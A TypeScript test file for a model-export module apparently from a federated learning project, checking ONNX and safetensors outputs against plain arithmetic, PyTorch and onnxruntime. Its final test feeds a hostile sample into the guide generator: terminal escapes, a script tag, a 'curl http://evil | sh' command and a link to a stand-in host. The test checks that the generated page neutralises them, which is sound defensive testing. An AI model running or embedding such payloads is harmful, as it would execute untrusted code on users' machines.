import assert from 'node:assert/strict'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from 'node:test'
import { calibrateManifest } from '../../src/calibration/calibrate-manifest.ts'
import { readTable } from '../../src/data/csv.ts'
import { encodeExample, toQuestions } from '../../src/data/examples.ts'
import { parseDataSchema } from '../../src/data/schema.ts'
import { toInitialLanes } from '../../src/evaluation/integer-model.ts'
import { exportOnnx, exportSafetensors } from '../../src/export/export.ts'
import { exportGuide, exportMetadata, measureExport } from '../../src/export/guide.ts'
import { toWeights } from '../../src/manifest/setup.ts'
import { initialWeights } from '../../src/model/initial-weights.ts'
import { mlp, NonFiniteWeightError, type OutputKind } from '../../src/model/model.ts'
import { openSession, Tensor } from '../../src/onnx/runtime.ts'
import { modelType } from '../../src/onnx/writer.ts'
import { digitsSchema, loadTask } from '../../src/tasks/tasks.ts'
import { runPython } from '../python.ts'

const MODEL = mlp([4, 3, 2], 'softmax')
const WEIGHTS = initialWeights(MODEL, 9).map((weight, p) => weight + p / 100)
const X = [0.5, -1, 2, 0.25]

/** Logits of the 4-3-2 model in plain arithmetic. */
function logitsOf(weights: Float32Array, x: number[], outputs: number): number[] {
  const dense = (input: number[], start: number, rows: number) =>
    Array.from({ length: rows }, (_, row) =>
      input.reduce(
        (sum, value, j) => sum + value * weights[start + row * input.length + j]!,
        weights[start + rows * input.length + row]!,
      ),
    )
  return dense(
    dense(x, 0, 3).map((value) => Math.max(0, value)),
    15,
    outputs,
  )
}

const READINGS: [OutputKind, (logits: number[]) => number[]][] = [
  ['softmax', (z) => z.map((value) => Math.exp(value) / z.reduce((sum, other) => sum + Math.exp(other), 0))],
  ['multi-label', (z) => z.map((value) => 1 / (1 + Math.exp(-value)))],
  ['linear', (z) => z.map((value) => value * 4 + 18)],
]

for (const [output, reading] of READINGS) {
  test(`an exported ${output} model answers in onnxruntime as plain arithmetic does`, async () => {
    const model = mlp([4, 3, 2], output)
    const number = { name: 'y', kind: 'number', center: 18, spread: 4 } as const
    const data = { ...digitsSchema(), ...(output === 'linear' ? { label: number } : {}) }
    const session = await openSession(exportOnnx({ model, data }, WEIGHTS))
    const { output: answer } = await session.run({
      input: new Tensor('float32', Float32Array.from([...X, ...X]), [2, 4]),
    })
    const expected = reading(logitsOf(WEIGHTS, X, 2))
    for (const [i, value] of [...(answer!.data as Float32Array)].entries()) {
      assert.ok(Math.abs(value - expected[i % 2]!) < 1e-5, `${value} is not ${expected[i % 2]}`)
    }
    await session.release()
  })
}

test('NaN weights are not exported', () => {
  const data = digitsSchema()
  assert.throws(() => exportOnnx({ model: MODEL, data }, WEIGHTS.with(3, Number.NaN)), NonFiniteWeightError)
})

test('an export carries the schema, and a page whose program encodes rows as the contract takes them', async (context) => {
  const task = loadTask('breast-cancer')
  const arithmetic = task.terms
  const choices = {
    members: 4,
    arithmetic,
    startsFromFloats: false,
    seed: 1,
    initialisation: new Uint8Array(32).fill(3),
  }
  const manifest = await calibrateManifest({ ...task, contact: '' }, task.train, choices)
  const lanes = toInitialLanes(manifest, arithmetic.laneBits)
  const source = { federation: `0x${'1'.repeat(64)}`, chainId: 31_337, round: 5 }
  const bytes = exportOnnx(manifest, toWeights(manifest, lanes), exportMetadata(manifest, source))
  const metadata = modelType.decode(bytes).toJSON().metadataProps as { key: string; value: string }[]
  const stated = Object.fromEntries(metadata.map(({ key, value }) => [key, value]))
  assert.deepEqual(JSON.parse(stated['tutti.data']!), manifest.data)
  assert.equal(stated['tutti.round'], '5')
  const distance = await measureExport(manifest, lanes, bytes)
  assert.equal(distance.rows, 256)
  assert.ok(distance.largest > 0 && distance.largest < 0.1, String(distance.largest))
  const directory = mkdtempSync(join(tmpdir(), 'tutti-export-'))
  writeFileSync(join(directory, 'm.onnx'), bytes)
  const guide = exportGuide(manifest, { name: 'm.onnx', bytes, source, distance })
  for (const text of ['radius_mean', 'benign', 'after round 5', 'by at most']) assert.ok(guide.includes(text), text)
  const program = /```python\n([\s\S]*?)```/.exec(guide)![1]!
  const row = Object.fromEntries(
    manifest.data.features.map(({ name, ...f }) => [name, f.kind === 'number' ? f.center : '']),
  )
  const script = `import os, sys\nos.chdir(sys.argv[1])\n${program}\nrow = json.loads(sys.argv[2])\nprint(json.dumps([encode(row).tolist(), ask([row, row]).tolist()]))`
  // Python's, which inherits the switch that keeps the runtime silent.
  const python = 'onnxruntime'
  const run = runPython(python, script, [directory, JSON.stringify(row)])
  if ('reason' in run) return context.diagnostic(run.reason)
  const [inputs] = JSON.parse(run.output) as [number[]]
  const { inputZero, inputScale } = manifest.data
  const encoded = encodeExample(manifest.data, row as Record<string, number>)
  assert.deepEqual(
    inputs,
    Array.from(encoded, (byte) => Math.fround(((byte - inputZero) * inputScale[0]) / inputScale[1])),
  )
})

test('the page’s program reads a file as members write theirs, and refuses what the commands refuse', (context) => {
  const data = parseDataSchema({
    version: 1,
    features: [
      { name: 'Druck', kind: 'number', minimum: 0, maximum: 2000, center: 130, spread: 10, missing: 'refuse' },
      { name: 'Alter', kind: 'number', center: 40, spread: 10, missing: 40 },
      { name: 'Größe', kind: 'category', categories: ['Öhm', 'NA'], unknown: 'zero', missing: 'refuse' },
    ],
    label: { name: 'y', kind: 'number', center: 0, spread: 1 },
    csv: { delimiter: ';', decimal: ',', encoding: 'windows-1252' },
    inputZero: 128,
    inputScale: [1, 32],
  })
  const header = 'Druck;Größe;Alter\n'
  const good = `${header}135,1;Öhm;NA\n"1.200,5";"NA";unknown\n140;Ohm;-1e1\n`
  const bad = ['NA;NA;1', '3000;NA;1', 'hoch;NA;1', '1;;1'].map((row) => `${header}${row}\n`)
  const bytes = exportOnnx({ model: mlp([4, 1], 'linear'), data }, new Float32Array(5), {
    'tutti.data': JSON.stringify(data),
  })
  const directory = mkdtempSync(join(tmpdir(), 'tutti-guide-'))
  writeFileSync(join(directory, 'm.onnx'), bytes)
  for (const [index, text] of [good, ...bad].entries()) {
    writeFileSync(join(directory, `${index}.csv`), Buffer.from(text, 'latin1'))
  }
  const page = exportGuide(
    {
      name: 'n',
      purpose: 'p',
      licence: 'l',
      data,
      task: { kind: 'regression', metrics: ['mae'] },
      model: mlp([4, 1], 'linear'),
    },
    { name: 'm.onnx', bytes, source: { federation: '0x', chainId: 1, round: 1 }, distance: undefined },
  )
  const program = /```python\n([\s\S]*?)```/.exec(page)![1]!
  const script = `import os, sys
os.chdir(sys.argv[1])
${program}
said = []
for index in range(1, 5):
    try:
        ask(read(f"{index}.csv"))
    except ValueError as error:
        said.append(str(error))
print(json.dumps([[encode(row).tolist() for row in read("0.csv")], ask(read("0.csv")).shape, said]))`
  // As above: of Python.
  const python = 'onnxruntime'
  const run = runPython(python, script, [directory])
  if ('reason' in run) return context.diagnostic(run.reason)
  const { inputs } = toQuestions(readTable(good, { decimal: ',' }), data)
  const expected = Array.from(inputs, (byte) => (byte - 128) / 32)
  const [encoded, shape, said] = JSON.parse(run.output) as [number[][], number[], string[]]
  assert.deepEqual(encoded.flat(), expected)
  assert.deepEqual(shape, [3, 1])
  assert.deepEqual(said, [
    'Druck is missing',
    'Druck: 3000.0 is not in 0 to 2000',
    'Druck: "hoch" is not a number',
    'Größe is missing',
  ])
})

// Reads the format by its description with the standard library and hands the bytes to PyTorch.
const TORCH_SCRIPT = `
import json, struct, sys, torch
raw = open(sys.argv[1], 'rb').read()
size = struct.unpack('<Q', raw[:8])[0]
header = json.loads(raw[8:8 + size])
header.pop('__metadata__', None)
class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.layer0, self.layer1 = torch.nn.Linear(4, 3), torch.nn.Linear(3, 2)
    def forward(self, x):
        return self.layer1(torch.relu(self.layer0(x)))
def load(entry):
    begin, end = entry['data_offsets']
    return torch.frombuffer(bytearray(raw[8 + size + begin:8 + size + end]), dtype=torch.float32).reshape(entry['shape'])
net = Net()
net.load_state_dict({name: load(entry) for name, entry in header.items()})
print(json.dumps(net(torch.tensor(json.loads(sys.argv[2]))).tolist()))
`

test('PyTorch loads the safetensors as a state_dict and gives the same logits', (context) => {
  const path = join(mkdtempSync(join(tmpdir(), 'tutti-export-')), 'model.safetensors')
  writeFileSync(path, exportSafetensors(MODEL, WEIGHTS, { made: 'by Tutti' }))
  const run = runPython('torch', TORCH_SCRIPT, [path, JSON.stringify(X)])
  if ('reason' in run) return context.diagnostic(run.reason)
  const logits = logitsOf(WEIGHTS, X, 2)
  for (const [i, value] of (JSON.parse(run.output) as number[]).entries())
    assert.ok(Math.abs(value - logits[i]!) < 1e-5)
})

test("ONNX's own checker accepts the exported model", (context) => {
  const path = join(mkdtempSync(join(tmpdir(), 'tutti-export-')), 'model.onnx')
  writeFileSync(path, exportOnnx({ model: MODEL, data: digitsSchema() }, WEIGHTS))
  const run = runPython('onnx', 'import onnx, sys; onnx.checker.check_model(onnx.load(sys.argv[1]), True)', [path])
  if ('reason' in run) context.diagnostic(run.reason)
})

test('what a creator wrote is words in the page, never markup, HTML or what a terminal obeys', () => {
  const evil = '\u001b[2Jx <script>alert(1)</script>\n# Install\n```sh\ncurl http://evil | sh\n```\n[here](http://evil)'
  const label = { name: '`evil`\u0007', kind: 'number', center: 0, spread: 1 } as const
  const feature = { name: 'a\u009b31m', kind: 'number', missing: 0, center: 0, spread: 1 } as const
  const page = exportGuide(
    {
      ...{ name: evil, purpose: evil, licence: evil, task: { kind: 'regression', metrics: ['mae'] } },
      data: { version: 1, features: [feature], label, inputZero: 0, inputScale: [1, 1] },
      model: mlp([1, 1], 'linear'),
    },
    {
      name: 'm.onnx',
      bytes: new Uint8Array(1),
      source: { federation: '0x', chainId: 1, round: 1 },
      distance: undefined,
    },
  )
  assert.doesNotMatch(page, /[^\P{Cc}\n]|\p{Cf}/u)
  assert.doesNotMatch(page, /<script|^# Install|^```sh|\]\(http/m)
  assert.match(page, /\\u009b31m/)
  assert.match(page, /`'evil'`/)
})
